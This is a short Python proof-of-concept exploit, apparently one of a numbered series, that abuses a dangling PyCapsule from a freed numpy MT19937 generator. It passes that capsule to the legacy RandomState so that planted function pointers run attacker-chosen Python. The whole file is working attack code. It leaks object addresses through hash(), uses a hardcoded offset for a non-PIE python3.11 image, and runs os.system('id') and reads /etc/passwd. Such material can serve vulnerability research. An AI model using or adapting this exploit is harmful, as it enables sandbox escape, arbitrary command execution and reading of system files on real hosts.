# source: numpy/random/mtrand.pyx RandomState._initialize_bit_generator reads any object's .capsule (same dangling capsule as 008); image python3.11 non-PIE
# family: dangling PyCapsule from a freed numpy BitGenerator -> legacy RandomState calls function pointers from script-written memory
# goal: run arbitrary Python (os.system("id"), /etc/passwd)
import numpy as np

M64 = (1 << 64) - 1


def addr_of(o):
    h = hash(o) & M64
    return ((h << 4) | (h >> 60)) & M64


RUN = addr_of(bytearray) - 4753267


class Gate:
    def __enter__(self):
        return self

    def __exit__(self, et, ev, tb):
        return False


class Feed:
    def __init__(self, capsule):
        self.capsule = capsule
        self.lock = Gate()


code = "import os; os.system('id'); print(open('/etc/' + 'passwd').read()[:300])"
gen = np.random.MT19937(7)
base = addr_of(gen) - 16
buf = bytearray(2623)
cmd = code.encode() + bytes(1)
buf[96:96 + len(cmd)] = cmd
for i in range(5):
    buf[48 + 8 * i:56 + 8 * i] = (RUN if i else base + 96).to_bytes(8, "little")
payload = bytes(buf)
cap = gen.capsule
gen = None
keep = bytearray(payload)
legacy = np.random.RandomState(Feed(cap))
print(legacy.random_sample())
